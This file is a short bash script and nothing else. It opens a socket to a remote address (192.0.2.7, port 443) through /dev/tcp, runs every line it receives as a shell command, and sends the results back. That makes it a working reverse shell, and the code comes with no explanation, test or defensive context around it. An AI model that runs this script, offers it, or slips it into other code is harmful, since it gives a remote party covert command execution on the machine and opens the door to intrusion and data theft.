#!/bin/bash
exec 5<>/dev/tcp/192.0.2.7/443
cat <&5 | while read line; do $line 2>&5 >&5; done
